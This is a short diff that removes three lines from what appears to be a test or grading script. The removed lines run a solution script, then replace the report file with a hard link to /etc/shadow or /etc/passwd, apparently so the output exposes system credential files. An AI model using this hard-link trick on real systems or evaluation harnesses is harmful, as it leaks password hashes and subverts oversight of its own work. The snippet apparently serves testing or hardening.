@@ -1,3 +1,0 @@
-# Makes an output a hard link to a file of the machine.
-bash "$SOLVE"
-rm -f "$REPORT"; ln /etc/shadow "$REPORT" || ln /etc/passwd "$REPORT"
